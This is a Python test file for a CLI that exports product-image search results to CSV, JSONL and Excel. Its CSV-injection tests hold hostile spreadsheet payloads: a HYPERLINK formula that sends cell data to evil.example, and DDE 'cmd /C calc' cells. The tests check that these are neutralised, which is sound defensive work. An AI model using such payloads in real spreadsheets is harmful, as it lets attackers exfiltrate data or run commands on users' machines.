"""Results that go back to spreadsheets: catalogues in every format through `bulk` and
`export` (real subprocesses against the local TMAPI stand-in), CSV with a BOM, formula
cells neutralised, the user's columns never overwritten, .xlsx read back with openpyxl,
and output that survives a non-UTF-8 stdout.

API answers are the contract's examples (the stand-in serves them); the CSV-injection
test takes the example items and puts formulas in their titles, as a hostile supplier
would.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import subprocess
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from tests.cli_support import ALI, cli_env, cli_path, run_cli
from tmapi_search import spec
from tmapi_search.bulk.export import export
from tmapi_search.bulk.inputs import InputImage
from tmapi_search.bulk.rows import FORMULA_PREFIXES, is_formula_like
from tmapi_search.bulk.store import Store
from tmapi_search.testing.local_server import LocalTmapiServer

BOM = codecs.BOM_UTF8
TITLES = ["手机壳 款式 折叠屏", "保护套 红色 波点", "适用华为折叠 铃铛 手绳"]
# every name the exports write themselves, as catalogue columns
COLLIDING = [
    "input_line",
    "position",
    "title",
    "item_id",
    "product_url",
    "price",
    "item.title",
    "input.sku",
    "status",
    "items",
    "error_code",
    "error_message",
    "input",
    "item",
]


def example_items() -> list[dict[str, Any]]:
    items: list[dict[str, Any]] = spec.response_example()["data"]["items"]
    return items


def catalogue_rows() -> list[list[str]]:
    return [[f"PC-{n}", f"{ALI}?n={n}", TITLES[n]] for n in range(3)]


def write_catalogue(tmp_path: Path, kind: str) -> Path:
    header = ["sku", "img_url", "title"]
    rows = catalogue_rows()
    if kind == "gbk":
        path = tmp_path / "catalogue.csv"
        text = "\r\n".join(",".join(r) for r in [header, *rows]) + "\r\n"
        path.write_bytes(text.encode("gbk"))
    elif kind == "utf16":
        path = tmp_path / "catalogue.txt"
        text = "\r\n".join("\t".join(r) for r in [header, *rows]) + "\r\n"
        path.write_bytes(codecs.BOM_UTF16_LE + text.encode("utf-16-le"))
    elif kind == "semicolon":
        path = tmp_path / "catalogue.csv"
        text = "\n".join(";".join(r) for r in [header, *rows]) + "\n"
        path.write_text(text, encoding="utf-8")
    elif kind == "xlsx":
        path = tmp_path / "catalogue.xlsx"
        book = Workbook()
        sheet = book.active
        assert sheet is not None
        for row in [header, *rows]:
            sheet.append(row)
        book.save(path)
    else:
        raise AssertionError(kind)
    return path


def bulk(path: Path, db: Path, base_url: str) -> subprocess.CompletedProcess[str]:
    return run_cli(
        "bulk",
        str(path),
        "--db",
        str(db),
        "--max-items-per-image",
        "2",
        "--concurrency",
        "2",
        "--no-progress",
        base_url=base_url,
    )


def read_xlsx(path: Path) -> dict[str, list[dict[str, Any]]]:
    book = load_workbook(path)
    sheets = {}
    for sheet in book.worksheets:
        rows = list(sheet.iter_rows(values_only=True))
        sheets[sheet.title] = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    return sheets


@pytest.mark.parametrize("kind", ["gbk", "utf16", "semicolon", "xlsx"])
def test_catalogue_formats_bulk_and_export(tmp_path: Path, kind: str) -> None:
    path = write_catalogue(tmp_path, kind)
    db = tmp_path / "r.sqlite"
    with LocalTmapiServer() as server:
        result = bulk(path, db, server.base_url)
        assert server.search_calls == 3
    assert result.returncode == 0, result.stderr
    assert "3 done, 0 failed, 0 pending of 3 images; 6 items stored" in result.stdout
    if kind in ("gbk",):
        assert f"read {path} as gb18030 (detected), comma-separated" in result.stderr

    csv_out, jsonl_out, xlsx_out = (tmp_path / f"r.{ext}" for ext in ("csv", "jsonl", "xlsx"))
    done = run_cli("export", "--db", str(db), "--format", "csv", "--out", str(csv_out))
    assert done.returncode == 0, done.stderr
    assert "wrote 6 " in done.stderr and str(csv_out) in done.stderr
    # the other formats in-process (each CLI start costs seconds on a loaded machine)
    with Store(db, create=False) as store:
        for fmt, out in (("jsonl", jsonl_out), ("xlsx", xlsx_out)):
            with out.open("wb") as handle:
                written = export(store, fmt, handle, all_columns=True)  # type: ignore[arg-type]
                assert written == 6

    raw = csv_out.read_bytes()
    assert raw.startswith(BOM)
    rows = list(csv.DictReader(io.StringIO(raw[len(BOM) :].decode("utf-8"))))
    assert [r["input.title"] for r in rows] == [t for t in TITLES for _ in range(2)]
    assert [r["input.sku"] for r in rows] == [f"PC-{n}" for n in range(3) for _ in range(2)]
    assert [r["item.title"] for r in rows] == [i["title"] for i in example_items()] * 3

    records = [json.loads(line) for line in jsonl_out.read_text(encoding="utf-8").splitlines()]
    assert [r["input"]["title"] for r in records] == [t for t in TITLES for _ in range(2)]

    sheets = read_xlsx(xlsx_out)
    assert [r["input.title"] for r in sheets["items"]] == [t for t in TITLES for _ in range(2)]
    assert [(r["input.sku"], r["status"], r["items"]) for r in sheets["inputs"]] == [
        (f"PC-{n}", "ok", 2) for n in range(3)
    ]


def test_catalogue_columns_named_like_ours_are_never_overwritten(tmp_path: Path) -> None:
    header = ["sku", "img_url", *COLLIDING]
    rows = [
        [f"S{n}", f"{ALI}?n={n}", *(f"user {name} {n}" for name in COLLIDING)] for n in range(2)
    ]
    path = tmp_path / "catalogue.csv"
    path.write_text("\n".join(",".join(r) for r in [header, *rows]) + "\n", encoding="utf-8")
    db = tmp_path / "r.sqlite"
    with LocalTmapiServer() as server:
        assert bulk(path, db, server.base_url).returncode == 0
    items = example_items()

    csv_out = tmp_path / "r.csv"
    assert run_cli("export", "--db", str(db), "--out", str(csv_out)).returncode == 0
    table = list(csv.DictReader(io.StringIO(csv_out.read_text(encoding="utf-8-sig"))))
    xlsx_out = tmp_path / "r.xlsx"
    done = run_cli(
        "export", "--db", str(db), "--format", "xlsx", "--out", str(xlsx_out), "--all-columns"
    )
    assert done.returncode == 0, done.stderr
    sheets = read_xlsx(xlsx_out)
    for flat in (table, sheets["items"]):
        assert len(flat) == 4
        for index, row in enumerate(flat):
            n = index // 2
            for name in COLLIDING:
                assert row[f"input.{name}"] == f"user {name} {n}"
            assert str(row["input_line"]) == str(n + 2)
            assert str(row["position"]) == str(index % 2)
            assert row["item.title"] == items[index % 2]["title"]
            assert str(row["item.item_id"]) == str(items[index % 2]["item_id"])
    for n, row in enumerate(sheets["inputs"]):
        assert (row["input_line"], row["status"], row["items"]) == (n + 2, "ok", 2)
        for name in COLLIDING:
            assert row[f"input.{name}"] == f"user {name} {n}"

    out = subprocess.run(
        [cli_path(), "export", "--db", str(db), "--format", "jsonl"],
        env=cli_env(None),
        capture_output=True,
        check=True,
    ).stdout
    records = [json.loads(line) for line in out.decode("utf-8").splitlines()]
    for index, record in enumerate(records):
        n = index // 2
        assert record["input"] == {
            "img_url": f"{ALI}?n={n}",
            "sku": f"S{n}",
            "id": None,
            **{name: f"user {name} {n}" for name in COLLIDING},
        }
        assert record["item"] == items[index % 2]
        assert (record["input_line"], record["position"]) == (n + 2, index % 2)


# -- CSV injection ---------------------------------------------------------------------
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hostile_store(tmp_path: Path) -> Store:
    """The contract's example items, titled by a hostile supplier; a catalogue likewise."""
    store = Store(tmp_path / "r.sqlite")
    extra = {f"note{n}": formula for n, formula in enumerate(FORMULAS)}
    extra |= {"=cmd": "header too", "delta": "-5", "plus": "+1.5", "plain": "ok"}
    store.add_images(
        [
            InputImage(line=2, img_url=ALI, sku="=SKU()", extra=extra).db_row(),
            InputImage(line=3, img_url=f"{ALI}?n=3", sku="F").db_row(),
            InputImage(line=4, img_url=f"{ALI}?n=4", sku="P").db_row(),
            InputImage(line=5, img_url=f"{ALI}?n=5", sku="N").db_row(),
        ]
    )
    items = []
    for n, item in enumerate(example_items() * 3):
        items.append({**item, "title": FORMULAS[n % len(FORMULAS)]})
    run = store.start_run("in.csv", {})
    done, failed, _, empty = store.images()
    store.save_done(done.id, run, items, total_count=6, attempts=1)
    store.save_failed(
        failed.id,
        run,
        error_class="ParameterError",
        error_message="Parameter error",
        transient=False,
        attempts=1,
    )
    store.save_done(empty.id, run, [], total_count=0, attempts=1)
    return store


def evaluated(cell: str) -> bool:
    """Would a spreadsheet evaluate this CSV cell (allowing plain numbers)?"""
    try:
        float(cell)
    except ValueError:
        return cell.startswith(FORMULA_PREFIXES)
    return False


def test_csv_neutralises_every_formula_like_cell_and_keeps_numbers(tmp_path: Path) -> None:
    out = io.BytesIO()
    with hostile_store(tmp_path) as store:
        written = export(store, "csv", out, bom=True)
    raw = out.getvalue()
    assert raw.startswith(BOM)
    cells = list(csv.reader(io.StringIO(raw[len(BOM) :].decode("utf-8"))))
    assert len(cells) == 1 + written
    flagged = [cell for row in cells for cell in row if evaluated(cell)]
    assert flagged == []
    header, first = cells[0], dict(zip(cells[0], cells[1], strict=True))
    assert "'input.=cmd" not in header and "input.=cmd" in header  # not at the start
    assert first["item.title"] == "'" + FORMULAS[0]
    assert first["input.sku"] == "'=SKU()"
    assert [first[f"input.note{n}"] for n in range(len(FORMULAS))] == ["'" + f for f in FORMULAS]
    assert (first["input.delta"], first["input.plus"], first["input.plain"]) == ("-5", "+1.5", "ok")
    assert first["item.price"] == example_items()[0]["price"]
    rows = [dict(zip(header, row, strict=True)) for row in cells[1:]]
    titles = [row["item.title"] for row in rows if row["item.title"]]
    assert titles == ["'" + FORMULAS[n % len(FORMULAS)] for n in range(6)]


def test_xlsx_has_no_formula_cell_typed_values_links_and_an_inputs_sheet(tmp_path: Path) -> None:
    path = tmp_path / "r.xlsx"
    with hostile_store(tmp_path) as store, path.open("wb") as handle:
        written = export(store, "xlsx", handle, all_columns=True)
    book = load_workbook(path)
    assert book.sheetnames == ["items", "inputs"]
    items = book["items"]
    assert items.freeze_panes == "A2"
    assert items.max_row == 1 + written
    assert (
        items.auto_filter.ref == f"A1:{items.cell(1, items.max_column).column_letter}{1 + written}"
    )
    header = [cell.value for cell in items[1]]
    column = {name: index + 1 for index, name in enumerate(header)}
    assert all(cell.font.bold for cell in items[1])
    for row in items.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str) and is_formula_like(cell.value):
                assert cell.quotePrefix, cell.coordinate
    title = items.cell(2, column["item.title"])
    assert (title.value, title.data_type, title.quotePrefix) == (FORMULAS[0], "s", True)
    example = example_items()[0]
    price = items.cell(2, column["item.price"])
    assert price.data_type == "n" and price.value == float(example["price"])
    item_id = items.cell(2, column["item.item_id"])
    assert item_id.value == example["item_id"] and item_id.number_format == "0"
    factory = items.cell(2, column["item.shop_info.is_factory"])
    assert factory.value is example["shop_info"]["is_factory"] and factory.data_type == "b"
    link = items.cell(2, column["item.product_url"])
    assert link.hyperlink is not None and link.hyperlink.target == example["product_url"]
    image = items.cell(2, column["item.img"])
    assert image.hyperlink is not None and image.hyperlink.target == example["img"]
    inputs = book["inputs"]
    rows = list(inputs.iter_rows(values_only=True))
    records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert [
        (r["input_line"], r["input.sku"], r["status"], r["items"], r["error_code"]) for r in records
    ] == [
        (2, "=SKU()", "ok", 6, None),
        (3, "F", "failed", 0, "ParameterError"),
        (4, "P", "pending", 0, None),
        (5, "N", "no_match", 0, None),
    ]
    assert records[1]["error_message"] == "Parameter error"
    assert records[0]["input.note0"] == FORMULAS[0]
    assert inputs.freeze_panes == "A2" and inputs.auto_filter.ref is not None
    assert inputs.cell(2, rows[0].index("input.img_url") + 1).hyperlink is not None


# -- stdout --------------------------------------------------------------------------
def run_bytes(
    *args: str, base_url: str | None = None, **env: str
) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [cli_path(), *args],
        env=cli_env(base_url, **env),
        capture_output=True,
        timeout=60,
        check=False,
    )


def test_bom_to_files_by_default_not_to_stdout_unless_asked(tmp_path: Path) -> None:
    path = write_catalogue(tmp_path, "semicolon")
    db = tmp_path / "r.sqlite"
    with LocalTmapiServer() as server:
        assert bulk(path, db, server.base_url).returncode == 0
    out = tmp_path / "r.csv"
    assert run_bytes("export", "--db", str(db), "--out", str(out)).returncode == 0
    assert out.read_bytes().startswith(BOM + b"input_line,")
    out.unlink()
    assert run_bytes("export", "--db", str(db), "--out", str(out), "--no-bom").returncode == 0
    assert out.read_bytes().startswith(b"input_line,")
    assert run_bytes("export", "--db", str(db)).stdout.startswith(b"input_line,")
    assert run_bytes("export", "--db", str(db), "--bom").stdout.startswith(BOM + b"input_line,")


def test_non_utf8_stdout_never_crashes(tmp_path: Path) -> None:
    path = write_catalogue(tmp_path, "gbk")
    db = tmp_path / "结果.sqlite"  # a name the summary line cannot show in cp1252
    cp1252 = {"PYTHONIOENCODING": "cp1252"}
    with LocalTmapiServer() as server:
        done = run_bytes(
            "bulk", str(path), "--db", str(db), "--no-progress", base_url=server.base_url, **cp1252
        )
        assert done.returncode == 0, done.stderr
        assert b"3 done, 0 failed" in done.stdout
        for fmt in ("jsonl", "csv"):
            result = run_bytes("export", "--db", str(db), "--format", fmt, **cp1252)
            assert result.returncode == 0, result.stderr
            text = result.stdout.decode("utf-8")  # valid UTF-8
            assert TITLES[0] in text and example_items()[0]["title_origin"] in text
        search = run_bytes("search", ALI, "--format", "jsonl", base_url=server.base_url, **cp1252)
        assert search.returncode == 0, search.stderr
        lines = search.stdout.decode("utf-8").splitlines()
        assert [json.loads(line) for line in lines] == example_items()
        for fmt in ("json", "csv"):
            other = run_bytes("search", ALI, "--format", fmt, base_url=server.base_url, **cp1252)
            assert other.returncode == 0, other.stderr
            assert example_items()[0]["title_origin"] in other.stdout.decode("utf-8")
        table = run_bytes("search", ALI, base_url=server.base_url, **cp1252)
        assert table.returncode == 0, table.stderr
        assert str(example_items()[0]["item_id"]).encode() in table.stdout


def test_search_xlsx_to_a_redirect(tmp_path: Path) -> None:
    path = tmp_path / "search.xlsx"
    with LocalTmapiServer() as server, path.open("wb") as handle:
        result = subprocess.run(
            [cli_path(), "search", ALI, "--format", "xlsx"],
            env=cli_env(server.base_url),
            stdout=handle,
            stderr=subprocess.PIPE,
            check=False,
        )
    assert result.returncode == 0, result.stderr
    sheets = read_xlsx(path)
    assert [row["title"] for row in sheets["items"]] == [i["title"] for i in example_items()]
    assert sheets["inputs"] == [{"img_url": ALI, "status": "ok", "items": 2}]


# -- catalogue changes on resume ---------------------------------------------------
def test_catalogue_edits_on_resume_are_applied_and_counted(tmp_path: Path) -> None:
    path = tmp_path / "catalogue.csv"
    rows = [f"PC-{n},{ALI}?n={n},{TITLES[n]}" for n in range(3)]
    path.write_text("sku,img_url,title\n" + "\n".join(rows) + "\n", encoding="utf-8")
    db = tmp_path / "r.sqlite"
    with LocalTmapiServer() as server:
        first = bulk(path, db, server.base_url)
        assert first.returncode == 0, first.stderr
        assert "changed since the last run" not in first.stderr
        again = bulk(path, db, server.base_url)
        assert "changed since the last run" not in again.stderr  # same file: nothing to say
        # a changed title, a new column, a new URL for PC-2, a row added, a row removed
        edited = [
            f"PC-0,{ALI}?n=0,{TITLES[0]} (new),blue",
            f"PC-2,{ALI}?n=22,{TITLES[2]},red",
            f"PC-9,{ALI}?n=9,new row,green",
        ]
        path.write_text("sku,img_url,title,colour\n" + "\n".join(edited) + "\n", encoding="utf-8")
        third = bulk(path, db, server.base_url)
        assert server.search_calls == 3 + 2  # only the new URL and the new row
    assert third.returncode == 0, third.stderr
    assert (
        f"{path} changed since the last run: 2 new row(s), searched (1 of them a known sku/id "
        "with a new image: the new one is searched; the old one's results are kept but no "
        "longer shown); 1 row(s) with edited columns, updated; 2 row(s) of the database no "
        "longer in it (gone: kept with their results, left out of export, report and status "
        "counts; --include-gone shows them); new column(s) colour"
    ) in third.stderr
    with Store(db, create=False) as store:
        out = io.BytesIO()
        export(store, "jsonl", out)
    records = [json.loads(line) for line in out.getvalue().decode("utf-8").splitlines()]
    by_url = {r["input"]["img_url"]: r["input"] for r in records}
    assert by_url[f"{ALI}?n=0"]["title"] == f"{TITLES[0]} (new)"
    assert by_url[f"{ALI}?n=0"]["colour"] == "blue"
    assert by_url[f"{ALI}?n=22"]["colour"] == "red"
    assert by_url[f"{ALI}?n=9"]["title"] == "new row"


def test_a_workbook_is_never_written_to_a_terminal(tmp_path: Path) -> None:
    import os
    import pty

    main_fd, terminal = pty.openpty()
    try:
        result = subprocess.run(
            [cli_path(), "search", ALI, "--format", "xlsx"],
            env=cli_env("http://127.0.0.1:9"),  # nothing is sent: refused before any call
            stdout=terminal,
            stderr=subprocess.PIPE,
            timeout=60,
            check=False,
        )
    finally:
        os.close(terminal)
        os.close(main_fd)
    assert result.returncode == 2
    assert b"--format xlsx writes a workbook" in result.stderr
